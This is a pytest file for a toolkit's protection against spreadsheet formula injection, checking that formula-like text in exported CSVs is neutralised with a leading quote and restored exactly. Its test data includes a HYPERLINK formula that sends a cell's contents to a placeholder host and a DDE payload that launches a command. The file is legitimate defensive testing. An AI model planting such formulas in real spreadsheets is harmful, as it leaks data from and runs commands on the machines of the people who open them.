"""Text a spreadsheet would run as a formula: written as text in workbooks, neutralised in the CSVs
people open, given back unchanged to the toolkit that reads them."""

import pandas as pd
import pytest

from toolkit.model.live_text import is_live, neutralised, neutralised_frame, restored, restored_frame

HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?d="&B3,"Cliquer")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_live_text_is_neutralised_and_given_back(text):
    assert is_live(text)
    assert neutralised(text) == "'" + text
    assert restored(neutralised(text)) == text


@pytest.mark.parametrize("value", ["-5", "-3,5", "+12", "98 525", "Budget", "", "=", 12, None])
def test_numbers_plain_text_and_other_values_are_left_as_they_are(value):
    expected = "'=" if value == "=" else value
    assert neutralised(value) == expected
    assert restored(neutralised(value)) == value


@pytest.mark.parametrize("text", ["'=1+1", "''=1+1", "'", "'texte", "l'=x"])
def test_a_value_that_already_begins_with_the_quote_comes_back_exactly(text):
    assert restored(neutralised(text)) == text
    assert not is_live(neutralised(text))


def test_a_frame_and_its_header_round_trip_through_a_csv(tmp_path):
    frame = pd.DataFrame({"value": [HOSTILE[0], "-5", None, "texte"], "=colonne": ["@x", "a", "b", "c"]})
    path = tmp_path / "findings.csv"
    neutralised_frame(frame).to_csv(path, index=False)
    written = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in written and "'=colonne" in written and "'@x" in written and "\n-5,a\n" in written
    back = restored_frame(pd.read_csv(path, dtype="str"))
    assert list(back.columns) == ["value", "=colonne"]
    assert back["value"].tolist()[:2] == [HOSTILE[0], "-5"] and back["=colonne"].tolist()[0] == "@x"
